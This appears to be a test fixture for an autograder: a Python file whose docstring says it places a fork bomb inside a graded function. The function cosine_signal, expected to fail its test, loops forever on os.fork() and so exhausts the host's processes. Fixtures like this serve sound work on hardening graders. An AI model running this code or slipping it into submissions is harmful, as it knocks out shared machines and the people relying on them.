"""A fork bomb inside the graded function.

cell: task3_cosine_signal_solution
fails: task3_cosine_signal
plain: skip
"""
import os


def cosine_signal(max_x, samples=100):
    while True:
        try:
            os.fork()
        except OSError:
            pass
